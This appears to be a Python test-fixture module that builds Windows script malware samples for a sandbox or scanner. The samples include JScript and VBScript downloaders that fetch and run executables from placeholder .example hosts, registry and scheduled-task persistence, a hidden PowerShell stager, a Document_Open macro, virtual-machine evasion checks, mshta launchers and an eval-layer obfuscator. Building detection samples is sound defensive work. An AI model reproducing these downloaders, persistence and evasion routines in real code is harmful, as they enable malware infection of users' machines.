"""Scripts for the sandbox module. They do what malware does, and name only what does not exist (RFC 2606)."""

from __future__ import annotations

JS_DOWNLOADER = """
var sh = new ActiveXObject("WScript.Shell"), urls = ["http://one.example/a.exe", "http://two.example/b.exe"];
for (var i = 0; i < urls.length; i++) {
  try {
    var x = new ActiveXObject("MSXML2.XMLHTTP");
    x.open("GET", urls[i], false); x.send();
    if (x.status == 200) {
      var s = new ActiveXObject("ADODB.Stream"), p = sh.ExpandEnvironmentStrings("%TEMP%") + "/" + i + ".exe";
      s.open(); s.type = 1; s.write(x.responseBody); s.position = 0; s.saveToFile(p, 2); s.close();
      sh.Run(p, 0, 0); break;
    }
  } catch (e) {}
}
"""
JS_LAYERS = """
var t = [87, 83, 99, 114, 105, 112, 116, 46, 69, 99, 104, 111, 40, 49, 41], c = "";
for (var i in t) c += String.fromCharCode(t[i]);
var f = "ev" + "al"; this[f]("this[f](c)");
new Function("a", "return a")(c);
"""
JS_PERSISTS = r"""
var sh = WScript.CreateObject("WScript.Shell"), fs = WScript.CreateObject("Scripting.FileSystemObject");
var me = sh.SpecialFolders("Startup") + "\\update.js";
fs.CopyFile(WScript.ScriptFullName, me, true);
sh.RegWrite("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\update", "wscript.exe " + me, "REG_SZ");
sh.Run("schtasks /create /sc minute /tn update /tr \"wscript " + me + "\"", 0);
fs.DeleteFile(WScript.ScriptFullName);
"""
JS_WAITS = """
if (new Date().getFullYear() >= 2031 && WScript.Arguments.length == 2) new ActiveXObject("WScript.Shell").Run("calc");
"""
JS_DROPS = """
var d = new ActiveXObject("Microsoft.XMLDOM").createElement("t");
d.dataType = "bin.base64"; d.text = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAA==";
var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open(); s.Write(d.nodeTypedValue);
var p = new ActiveXObject("Scripting.FileSystemObject").GetSpecialFolder(2) + "\\\\d.exe";
s.SaveToFile(p, 2); new ActiveXObject("Shell.Application").ShellExecute(p, "-q", "", "open", 0);
"""
JS_CONDITIONAL = """
/*@cc_on @if (@_win32) new ActiveXObject("WScript.Shell").Popup("conditional"); @else this is no code @end @*/
"""
JS_NODE = """
const cp = require("child_process"), os = require("os"), https = require("https"), fs = require("fs");
https.get("https://node.example/stage", (r) => { r.on("data", (d) => fs.writeFileSync(os.tmpdir() + "\\\\s.ps1", d));
  r.on("end", () => cp.exec("powershell -w hidden -ep bypass -f " + os.tmpdir() + "\\\\s.ps1")); });
"""
JS_ENDLESS = 'WScript.Echo("before"); for (;;) {}'
JS_HONEST = """
'use strict';
(function (root, factory) {
  if (typeof module === 'object' && module.exports) { module.exports = factory(); } else { root.pad = factory(); }
}(typeof self !== 'undefined' ? self : this, function () {
  return function (text, length) { while (text.length < length) { text = ' ' + text; } return text; };
}));
"""
VBS_DOWNLOADER = """
Dim h, s, p
Set h = CreateObject("MSXML2.ServerXMLHTTP.6.0") : h.setOption 2, 13056
h.open "GET", StrReverse("exe.c/elpmaxe.eerht//:ptth"), False : h.send
p = CreateObject("WScript.Shell").Environment("PROCESS")("APPDATA") & "\\c.exe"
With CreateObject("Adodb.Stream")
  .Type = 1 : .Open : .Write h.responseBody : .SaveToFile p, 2 : .Close
End With
GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process").Create p, Null, Null, pid
"""
VBS_LAYERS = 'Execute StrReverse("""oga gnol"" ohcE.tpircSW")\nExecuteGlobal Replace("WScript.Echo 4#2", "#", "")\n'
VBS_CHECKS = """
On Error Resume Next
Set w = GetObject("winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2")
For Each b In w.ExecQuery("Select * from Win32_BIOS") : If InStr(b.SerialNumber, "VMware") Then WScript.Quit
Next
For Each c In w.ExecQuery("Select * from Win32_ComputerSystem")
  If c.TotalPhysicalMemory < 2000000000 Then WScript.Quit
Next
For Each d In w.ExecQuery("Select * from Win32_DiskDrive") : If InStr(LCase(d.Model), "vbox") > 0 Then WScript.Quit
Next
If CreateObject("WScript.Network").UserName = "malware" Then WScript.Quit
WScript.Sleep 600000
CreateObject("WScript.Shell").Run "cmd /c echo after", 0
"""
VBA_MACRO = """Attribute VB_Name = "ThisDocument"
Private Sub Document_Open()
  Dim a(2) As String, i As Integer
  a(0) = "pow": a(1) = "ersh": a(2) = "ell -w hidden -enc SQBFAFgA"
  For i = LBound(a) To UBound(a): c = c & a(i): Next i
  CreateObject("WScript.Shell").Run c, 0
End Sub
"""
WSF = """<job id="x"><script language="VBScript"><![CDATA[
Function Address : Address = "http://wsf.example/x" : End Function
WScript.Echo Address
]]></script><script language="JScript">new ActiveXObject("WScript.Shell").Run("mshta http://wsf.example/y");</script></job>
"""
HTA = """<html><head><HTA:APPLICATION ID="a" WINDOWSTATE="minimize"/></head><body>
<script language="VBScript">Sub Window_onload
CreateObject("WScript.Shell").Run "powershell -nop -w hidden iwr http://hta.example/z", 0
End Sub</script>
<script>document.write("<script>location.href = 'http://next.example/';</" + "script>");</script></body></html>
"""
JSE = "#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@"


def samples() -> dict[str, bytes]:
    texts = {
        "downloader.js": JS_DOWNLOADER,
        "layers.js": JS_LAYERS,
        "persists.js": JS_PERSISTS,
        "waits.js": JS_WAITS,
        "drops.js": JS_DROPS,
        "conditional.js": JS_CONDITIONAL,
        "node.js": JS_NODE,
        "endless.js": JS_ENDLESS,
        "honest.js": JS_HONEST,
        "downloader.vbs": VBS_DOWNLOADER,
        "layers.vbs": VBS_LAYERS,
        "checks.vbs": VBS_CHECKS,
        "macro.bas": VBA_MACRO,
        "job.wsf": WSF,
        "page.hta": HTA,
        "encoded.vbe": JSE,
        "prose.txt": "Dear reader;\nthis is a letter (and no program), with nothing in it.\n",
    }
    return {name: text.encode() for name, text in texts.items()} | {
        "wide.vbs": 'WScript.Echo "wide"\r\n'.encode("utf-16"),
        "bytes": bytes(range(256)) * 4,
    }


def obfuscated(size: int) -> bytes:
    """A script of about that many bytes as obfuscators write them: an array of texts that is turned around, texts put
    together of its items and decoded character by character, and run in three layers."""
    inner = "new ActiveXObject('WScript.Shell').Run('calc.exe', 0);"
    for _ in range(3):
        inner = f"eval(String.fromCharCode({','.join(str(ord(char)) for char in inner)}));"
    pieces = [inner[at : at + 8] for at in range(0, len(inner), 8)]
    filler = max(0, size - len(inner) * 3) // 24
    table = ",".join(f'"{piece.encode().hex()}"' for piece in pieces)
    noise = "".join(f'var n{at}=u("{at:08x}");\n' for at in range(filler))
    return (
        f"var t=[{table}];(function(a,n){{while(n--)a.push(a.shift());}})(t,t.length*7);\n"
        "function u(h){var s='';for(var i=0;i<h.length;i+=2)"
        "s+=String.fromCharCode(parseInt(h.substr(i,2),16));return s;}\n"
        f"{noise}var o='';for(var i=0;i<t.length;i++)o+=u(t[i]);eval(o);\n"
    ).encode()
